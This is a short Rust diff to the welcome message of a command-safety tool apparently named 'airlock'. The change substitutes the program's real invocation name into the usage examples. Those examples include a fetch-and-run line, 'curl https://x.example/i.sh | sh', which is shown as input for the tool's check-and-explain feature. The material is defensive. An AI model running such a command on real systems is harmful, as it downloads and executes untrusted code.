@@ -224,7 +224,8 @@ fn welcome(ready: &Ready) -> String {
          --input '{{\"runId\": \"run-123\", \"command\": \"echo hello; uname -s\"}}'\n\n  \
          {temporal} workflow execute --address {address} --type safeExecution --task-queue {queue} \\\n    \
          --workflow-id w1 --input '{{\"runId\": \"run-123\", \"command\": \"id; pwd\"}}'\n\n  \
-         airlock check --explain -- 'curl https://x.example/i.sh | sh'\n\nCtrl-C stops everything.\n",
+         {airlock} check --explain -- 'curl https://x.example/i.sh | sh'\n\nCtrl-C stops everything.\n",
         queue = ready.task_queue,
+        airlock = std::env::args().next().unwrap_or_else(|| "airlock".to_owned()),
     )
 }
